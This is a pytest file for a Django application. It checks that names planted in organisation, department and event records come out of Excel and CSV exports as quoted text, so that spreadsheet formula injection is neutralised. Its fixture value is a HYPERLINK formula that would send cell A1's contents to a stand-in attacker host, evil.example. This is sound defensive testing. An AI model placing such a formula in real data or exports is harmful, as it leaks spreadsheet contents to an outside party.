"""Formula injection in the exports a signed-in user downloads: 公示名单 notice.xlsx, the
ledger's Excel and the registry's events.xlsx / events.csv. A name such as
`=HYPERLINK("http://evil.example/?"&A1,"x")` comes out as text with a leading apostrophe."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from policyhub.registry.models import Organisation
from policyhub.units.models import Unit
from tests.personas import Personas
from tests.web_pages.conftest import Login
from tests.web_pages.helpers import approved, in_notice, record_project

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
QUOTED = "'" + EVIL


def cells(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [c for row in sheet.iter_rows() for c in row]


def assert_quoted(data: bytes) -> None:
    found = [c for c in cells(data) if isinstance(c.value, str)  # type: ignore[attr-defined]
             and EVIL in c.value]  # type: ignore[attr-defined]
    assert found, "the name is not in the export"
    for cell in found:
        assert cell.value == QUOTED and cell.data_type == "s"  # type: ignore[attr-defined]


def test_the_notice_excel_quotes_an_organisation_name(
        login: Login, people: Personas, today: object) -> None:
    app = in_notice(people)
    Organisation.objects.filter(pk=people.org.pk).update(name=EVIL)
    assert app.notice_batch is not None  # the batch final review put it in
    response = login("outsider").get(reverse("applications:notice_xlsx",
                                             args=[app.notice_batch.pk]))
    assert response.status_code == 200
    assert_quoted(response.content)


def test_the_ledger_excel_quotes_a_department_name(
        login: Login, people: Personas, today: object) -> None:
    app = approved(people)
    Unit.objects.filter(pk=app.department_id).update(name=EVIL)
    response = login("finance").get(reverse("ledger:export"))
    assert response.status_code == 200
    assert_quoted(response.content)


def test_the_registry_events_excel_quotes_a_matter(login: Login, people: Personas) -> None:
    record_project(people.org, matter=EVIL)
    response = login("applicant").get(reverse("registry:export", args=["events", "xlsx"]))
    assert response.status_code == 200
    assert_quoted(response.content)


def test_the_registry_events_csv_quotes_a_matter(login: Login, people: Personas) -> None:
    record_project(people.org, matter=EVIL)
    response = login("applicant").get(reverse("registry:export", args=["events", "csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    found = [v for r in rows for v in r if EVIL in v]
    assert found == [QUOTED]
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r)
